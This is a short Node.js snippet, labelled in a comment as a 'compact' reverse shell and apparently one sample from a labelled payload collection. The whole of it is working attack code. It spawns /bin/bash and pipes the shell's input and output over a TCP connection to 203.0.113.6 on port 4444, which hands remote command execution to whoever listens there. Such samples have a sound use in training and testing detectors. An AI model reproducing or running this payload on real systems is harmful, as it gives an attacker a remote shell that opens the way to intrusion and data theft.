// class: reverse shell; style: compact
(function () {
  const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/bash', []);
  const client = new net.Socket();
  client.connect(4444, '203.0.113.6', () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();
